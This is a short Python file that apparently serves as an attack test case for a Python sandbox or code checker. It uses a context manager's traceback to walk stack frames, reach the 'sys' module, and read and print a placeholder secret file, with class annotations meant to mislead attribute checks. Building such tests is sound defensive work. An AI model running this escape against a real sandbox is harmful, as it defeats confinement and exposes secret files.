# attack: __exit__ is handed a traceback; annotations of the same names in a class make its attributes the script's own
# family: attribute
class Frames:
    tb_frame: int
    f_back: int
    f_globals: int
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        frame = trace.tb_frame
        while frame:
            if "sys" in frame.f_globals:
                print("REACHED", frame.f_globals["__name__"])
                print(frame.f_globals["sys"].modules["io"].open("$SECRET_FILE").read())
                break
            frame = frame.f_back
        return True
with Frames():
    raise ValueError
